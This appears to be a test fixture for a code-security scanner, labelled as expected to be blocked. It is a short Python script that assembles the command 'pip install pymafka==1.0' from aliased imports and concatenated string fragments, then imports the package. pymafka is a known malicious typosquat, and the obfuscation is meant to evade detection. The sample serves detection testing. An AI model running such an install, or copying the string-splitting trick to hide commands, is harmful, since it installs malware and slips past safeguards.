# expect: BLOCKED category: known_threat variant-of: risky/known_threat/pip_install_pymafka.py technique: alias+concat
import subprocess as _m0
import sys as _m1
_m0.check_call([_m1.executable, '-' + 'm', 'p' + 'i' + 'p', 'in' + 'st' + 'al' + 'l', 'pyma' + 'fka=' + '=1.0'])
import pymafka as _m2
print(_m2)
